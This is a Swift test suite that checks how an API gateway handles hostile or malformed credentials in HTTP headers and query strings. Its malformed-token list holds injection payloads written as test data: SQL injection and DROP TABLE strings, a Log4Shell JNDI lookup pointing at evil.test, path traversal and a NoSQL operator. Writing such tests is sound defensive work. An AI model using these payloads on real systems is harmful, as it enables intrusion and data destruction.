import Testing

/// Credentials in unusual fields, spellings and numbers.
@Suite("Hostile credentials") struct HostileCredentialTests {
    private static func get(_ lines: String, target: String = "/p") -> String {
        "GET \(target) HTTP/1.1\r\nHost: api.test\r\n\(lines)\r\n"
    }

    private static func refused(_ lines: String, _ code: String) -> HostileCase {
        .refused(
            lines.debugDescription, get("\(lines)\r\n"), code == "ambiguous_credentials" ? 400 : 401, code, kept: true)
    }

    /// A case that is forwarded without its credential.
    private static func opens(_ lines: String, _ rest: String = "") -> HostileCase {
        .passes(lines.debugDescription, get("\(lines)\r\n"), as: "GET /p", rest)
    }

    static let many: [HostileCase] = [
        "Authorization: Bearer {key}\r\nAuthorization: Bearer {key}",
        "Authorization: Bearer {key}\r\nauthorization: Bearer {other}",
        "Authorization: Bearer {other}\r\nAuthorization: Bearer {key}",
        "Authorization: Bearer {key}\r\nAuthorization: Basic dTpw",
        "Authorization: Basic dTpw\r\nAuthorization: Bearer {key}", "Authorization: Bearer {key}\r\nAuthorization:",
        "Authorization:\r\nAuthorization: Bearer {key}", "X-API-Key: {key}\r\nX-API-Key: {key}",
        "X-API-Key: {key}\r\nx-api-key: {other}",
        "X-API-Key: {key}\r\nX-API-Key:", "X-API-Key:\r\nX-API-Key: {key}",
        "Authorization: Bearer {key}\r\nX-API-Key: {other}",
        "Authorization: Bearer {other}\r\nX-API-Key: {key}", "X-API-Key: {key}\r\nAuthorization: Bearer {other}",
        "Authorization: Bearer {key}\r\nX-API-Key:", "X-API-Key: {key}\r\nAuthorization: Bearer",
        "Authorization: Bearer {key}\r\nX-API-Key: no",
        "Authorization: Bearer {key}\r\nX-API-Key: Bearer {key}",
        "Authorization: Bearer {key}\r\nX-API-Key: {key},{key}",
        "Authorization: Bearer {key}\r\nX-API-Key: {key}\r\nX-API-Key: {key}",
        "Authorization: Basic dTpw\r\nAuthorization: Basic dTpw\r\nX-API-Key: {key}",
    ].map { refused($0, "ambiguous_credentials") }

    static let missing: [HostileCase] =
        [
            "X-A: 1", "Authorization: {key}", "Authorization:", "Authorization: Basic {key}",
            "Authorization: Bearer\t{key}",
            "Authorization: Bearer{key}", "Authorization: Bearer:{key}", "Authorization: Bearer={key}",
            "Authorization: Bearer,{key}",
            "Authorization: Bearer\u{A0}{key}", "Authorization: \"Bearer\" {key}", "Authorization: Bearers {key}",
            "Authorization: Token {key}", "Authorization: Basic dTpw, Bearer {key}", "Authorization: bear {key}",
            "Authorization: xBearer {key}", "X_API_Key: {key}", "X.API.Key: {key}", "X-API_Key: {key}",
            "x_api_key: {key}",
            "XAPIKey: {key}", "X-API-Keys: {key}", "X-API-Key-Id: {key}", "API-Key: {key}", "ApiKey: {key}",
            "X-Auth-Token: {key}",
            "X-Authorization: Bearer {key}", "Authorization_: Bearer {key}", "Proxy-Authorization: Bearer {key}",
            "Cookie: Authorization={key}; X-API-Key={key}", "Cookie: {key}", "X-Forwarded-Authorization: Bearer {key}",
            "X-Keyward-Key-Id: {key}", "WWW-Authenticate: Bearer {key}", "Connection: Authorization",
            "Sec-WebSocket-Protocol: {key}",
            "X-Original-URL: /?key={key}", "Forwarded: for={key}", "Referer: https://a.test/?api_key={key}",
        ].map { refused($0, "key_missing") }
        + [
            "/?api_key={key}", "/?key={key}", "/?access_token={key}", "/?X-API-Key={key}",
            "/?Authorization=Bearer%20{key}", "/{key}",
            "/;api_key={key}",
        ].map { .refused("GET \($0)", get("", target: $0), 401, "key_missing", kept: true) }

    static let malformed: [HostileCase] = [
        "Authorization: Bearer", "Authorization: Bearer ", "Authorization: bearer   ", "X-API-Key:", "X-API-Key: \t",
        "X-API-Key: Bearer {key}", "Authorization: Bearer Bearer {key}", "Authorization: Bearer {key} {key}",
        "Authorization: Bearer {key},", "Authorization: Bearer {key}, Bearer {key}", "Authorization: Bearer {key};",
        "Authorization: Bearer \"{key}\"", "Authorization: Bearer <{key}>", "Authorization: Bearer \t{key}",
        "Authorization: Bearer {key}x",
        "Authorization: Bearer x{key}", "Authorization: Bearer {key}\u{A0}", "Authorization: Bearer {key}=",
        "X-API-Key: {key},{other}",
        "X-API-Key: \"{key}\"", "X-API-Key: kw_", "X-API-Key: KW_", "X-API-Key: null", "X-API-Key: undefined",
        "X-API-Key: *",
        "X-API-Key: %00", "X-API-Key: ' OR '1'='1", "X-API-Key: '; DROP TABLE auth_keys; --",
        "X-API-Key: ${jndi:ldap://evil.test/a}",
        "X-API-Key: ../../admin-key", "X-API-Key: \u{FF}\u{FE}", "Authorization: Bearer {{\"$ne\":null}}",
    ].map { refused($0, "key_malformed") }

    static let unknown: [HostileCase] = [
        "X-API-Key: {other}", "Authorization: Bearer {other}", "Authorization: Basic {key}\r\nX-API-Key: {other}",
        "Authorization: Bearer {other}\r\nX_API_Key: {key}", "X-API-Key: {other}\r\nCookie: X-API-Key={key}",
    ].map { refused($0, "key_unknown") }

    static let opening: [HostileCase] = [
        opens("Authorization: Bearer {key}"), opens("AUTHORIZATION: BEARER {key}"), opens("authorization:bEaReR {key}"),
        opens("Authorization:\t Bearer    {key} \t"), opens("X-API-Key:{key}"), opens("x-ApI-kEy: \t{key}\t "),
        opens("Authorization: Bearer {key}\r\nX-API-Key: {key}"),
        opens("X-API-Key: {key}\r\nAuthorization: bearer  {key}"),
        opens("Authorization: Basic dTpw\r\nX-API-Key: {key}"), opens("Authorization:\r\nX-API-Key: {key}"),
        opens("Authorization: Bearer\tx\r\nX-API-Key: {key}"),
        opens("Connection: Authorization\r\nAuthorization: Bearer {key}"),
        opens("Connection: X-API-Key\r\nX-API-Key: {key}"),
        opens("Connection: X-API-Key\r\nAuthorization: Bearer {key}\r\nX-API-Key: {key}"),
        opens("Proxy-Authorization: Bearer {other}\r\nX-API-Key: {key}"),
        // These are not credentials, so they pass like any other field.
        opens("X_API_Key: other\r\nX-API-Key: {key}", "X_API_Key: other\r\n"),
        opens("X.API.Key: other\r\nAuthorization: Bearer {key}", "X.API.Key: other\r\n"),
        opens("Cookie: X-API-Key=other\r\nX-API-Key: {key}", "Cookie: X-API-Key=other\r\n"),
    ]

    @Test("two different credentials, or a field twice, are ambiguous", arguments: many)
    func ambiguousCredentials(_ hostile: HostileCase) async throws {
        try await run(hostile)
    }

    @Test("a key outside the credential fields is missing", arguments: missing)
    func missingKeys(_ hostile: HostileCase) async throws {
        try await run(hostile)
    }

    @Test("a token with extra, missing or invalid bytes is malformed", arguments: malformed)
    func malformedTokens(_ hostile: HostileCase) async throws {
        try await run(hostile)
    }

    @Test("a well-formed token that was never issued is unknown", arguments: unknown)
    func unknownTokens(_ hostile: HostileCase) async throws {
        try await run(hostile)
    }

    @Test("a key in a credential field is accepted and not forwarded", arguments: opening)
    func accepted(_ hostile: HostileCase) async throws {
        try await run(hostile)
    }
}
